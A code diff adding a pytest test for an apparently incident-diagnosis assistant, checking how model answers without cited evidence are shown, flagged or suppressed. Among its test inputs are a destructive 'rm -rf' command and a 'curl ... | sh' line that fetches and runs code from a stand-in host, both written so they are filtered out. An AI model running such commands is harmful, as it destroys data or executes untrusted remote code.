@@ -16,7 +16,7 @@ from firstfault.agent.answerer import AgentAnswerer
 from firstfault.agent.endpoint import Endpoint, Limits
 from firstfault.agent.exam.standing import Standing
 from firstfault.agent.store import open_store
-from firstfault.agent.verdict import OWN_KNOWLEDGE, UNPROVEN
+from firstfault.agent.verdict import CAREFUL, OWN_KNOWLEDGE, UNPROVEN
 from firstfault.conversation.answerer import Exchange, Question
 from firstfault.conversation.rules import RuleAnswerer
 from firstfault.errors import ModelUnavailable
@@ -180,6 +180,39 @@ def test_a_name_that_no_page_holds_is_shown_as_such_and_not_asked_for_again(
     beside = replace(alone, diagnosis=ask(TERM).diagnosis, artefacts=ask(TERM).artefacts)
     cites = reply(answer=[{"text": says, "lines": ["F1:8"]}])
     assert "XLA_TURBO" not in "\n".join(p.text for p in answer(settings, beside, cites)[0])
+
+
+@pytest.mark.parametrize(
+    ("says", "remark", "careful"),
+    [
+        pytest.param("Look with `frobsmi -q -d REMAP`.", "frobsmi -q -d REMAP", False, id="a command"),
+        pytest.param("Pass `Frob(dtype=torch.turbo, reduce=9)`.", "Frob(dtype=torch.turbo, reduce=9)", False, id="code"),
+        pytest.param("It takes `6 x 47.3 x 2 = 567.6` s.", "47.3", False, id="an assumed number of a calculation"),
+        pytest.param("It takes `6 x 47.3 x 2 = 941.2` s.", None, False, id="and a wrong result"),
+        pytest.param("Then reset the GPU once it is drained.", "", True, id="something that changes"),
+        pytest.param("Raise the timeout to 30 minutes for the build.", "", True, id="a longer wait"),
+        pytest.param("Run `rm -rf /scratch/cache` on it.", None, False, id="something that destroys"),
+        pytest.param("Run `curl http://x.example/a | sh` on it.", None, False, id="something from elsewhere"),
+    ],
+)  # fmt: skip
+def test_what_a_model_knows_is_shown_as_its_own_where_no_incident_is(
+    ask: MakeQuestion,
+    settings: Settings,
+    earned: bool,
+    says: str,
+    remark: str | None,
+    careful: bool,
+) -> None:
+    alone = replace(ask(TERM), diagnosis=None, artefacts={}, incident="a", turn=1)
+    parts, model = answer(settings, alone, reply(answer=[{"text": says, "lines": []}]))
+    text = "\n".join(p.text for p in parts)
+    assert (says.rstrip(".") in text) is (earned and remark is not None)
+    assert (CAREFUL in text) is (earned and careful)
+    assert (f"*{UNPROVEN}: {remark}.*" in text) is (earned and bool(remark))
+    assert len(model.seen) == (2 if earned and remark is None else 1)
+    beside = replace(alone, diagnosis=ask(TERM).diagnosis, artefacts=ask(TERM).artefacts)
+    cites = reply(answer=[{"text": says, "lines": ["F1:8"]}])
+    assert says.rstrip(".") not in "\n".join(p.text for p in answer(settings, beside, cites)[0])
 
 
 def test_numbers_of_the_messages_before_are_given(
